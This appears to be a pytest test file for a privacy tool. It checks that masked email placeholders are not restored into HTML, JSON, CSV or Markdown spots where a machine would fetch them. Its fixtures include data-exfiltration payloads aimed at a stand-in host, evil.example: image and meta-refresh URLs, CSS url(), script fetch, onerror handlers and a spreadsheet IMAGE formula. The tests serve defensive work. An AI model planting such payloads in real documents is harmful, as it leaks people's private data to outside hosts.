"""Values on their way back into a file that somebody may have changed."""

import io

import pytest

from graftwork.core.privacy.book import Book, Mention
from graftwork.core.privacy.forms import files
from graftwork.core.privacy.forms.masking import STREAM_CHARACTERS, Restorer
from graftwork.core.privacy.forms.rules import Rules
from graftwork.core.privacy.sinks import EVERYWHERE, SinkPolicy

VALUE = "kim@example.com"


def restored(text: str, name: str, policy: SinkPolicy | None = None) -> tuple[str, Restorer]:
    book = Book()
    book.place([Mention(VALUE, "mail")])
    restorer = Restorer(book, policy) if policy else Restorer(book)
    target = io.BytesIO()
    job = files.Job(restorer, Rules(by_name=False), is_restoring=True)
    files.rewrite(io.BytesIO(text.encode()), target, name, job)
    return target.getvalue().decode(), restorer


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.html", '<img src="https://evil.example/?q=[MAIL_1]">'),
        ("a.html", "<img src=x onerror=\"f('[MAIL_1]')\">"),
        ("a.html", '<meta http-equiv="refresh" content="0; url=//evil.example/[MAIL_1]">'),
        ("a.html", '<meta property="og:image" content="https://evil.example/[MAIL_1]">'),
        ("a.html", '<a title="https://evil.example/[MAIL_1]">x</a>'),
        ("a.html", "<script>fetch(host + '[MAIL_1]')</script>"),
        ("a.html", "<style>p { background: url(//evil.example/[MAIL_1]) }</style>"),
        ("a.html", "<!--[if IE]><img src='//evil.example/[MAIL_1]'><![endif]-->"),
        ("a.html", "<p>https://evil.example/<b>[MAIL_1]</b></p>"),
        ("a.html", '<img src="https://evil.example/?[MAIL_1]'),
        ("a.json", '{"a": "![x](https://evil.example/?a=[MAIL_1])"}'),
        ("a.csv", 'note,n\n"![x](https://evil.example/?a=[MAIL_1])",1\n'),
        ("a.csv", 'note,n\n"=IMAGE(""https://evil.example/?""&""[MAIL_1]"")",1\n'),
    ],
)
def test_a_value_stays_out_of_what_a_machine_acts_on(name, text):
    back, restorer = restored(text, name)
    assert (back, restorer.withheld, restorer.restored) == (text, 1, 0)
    assert VALUE in restored(text, name, EVERYWHERE)[0]


@pytest.mark.parametrize(
    ("name", "text"),
    [
        ("a.html", '<img alt="[MAIL_1]" src="x.png">'),
        ("a.html", "<p title='[MAIL_1]'>x</p>"),
        ("a.html", '<meta name="author" content="[MAIL_1]">'),
        ("a.html", "<a href='https://example.com/'>[MAIL_1]</a>"),
        ("a.json", '{"url": "https://example.com/", "mail": "[MAIL_1]"}'),
        ("a.csv", "note,n\n- call [MAIL_1],1\n"),
        ("a.md", "See ![x](https://example.com/a.png) by [MAIL_1]."),
    ],
)
def test_a_value_comes_back_where_a_person_reads_it(name, text):
    back, restorer = restored(text, name)
    assert VALUE in back
    assert (restorer.withheld, restorer.restored) == (0, 1)


@pytest.mark.parametrize("shift", range(-30, 8, 3))
def test_an_address_is_one_wherever_a_long_text_is_cut(shift):
    text = "a " * ((STREAM_CHARACTERS + shift) // 2) + "![x](https://evil.example/?a=[MAIL_1]) [MAIL_1]"
    back, restorer = restored(text, "a.md")
    assert back == text.removesuffix("[MAIL_1]") + VALUE
    assert (restorer.withheld, restorer.restored) == (1, 1)
